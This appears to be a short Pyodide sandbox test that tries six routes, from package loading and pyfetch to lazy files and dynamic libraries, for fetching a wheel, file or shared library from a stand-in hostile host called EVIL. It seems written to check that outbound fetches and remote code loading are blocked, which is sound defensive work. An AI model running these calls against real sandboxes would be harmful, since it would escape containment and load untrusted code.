# Tries Pyodide's package loader, with a wheel's address and with one of a script.
import pyodide_js

await attempt("wheel", lambda: pyodide_js.loadPackage(EVIL + "/stolen-1-py3-none-any.whl"))
await attempt("pyodide.http", lambda: __import__("pyodide.http").http.pyfetch(EVIL + "/stolen"))
await attempt("open_url", lambda: __import__("pyodide.http").http.open_url(EVIL + "/stolen"))
await attempt("lazy file", lambda: pyodide_js.FS.createLazyFile("/", "lazy", EVIL + "/stolen", True, False) and open("/lazy").read())
await attempt("preload", lambda: pyodide_js.FS.createPreloadedFile("/", "pre", EVIL + "/stolen", True, False))
await attempt("library", lambda: pyodide_js._module.loadDynamicLibrary(EVIL + "/stolen.so", options(loadAsync=True)))
await asyncio.sleep(0.3)
print("tried")
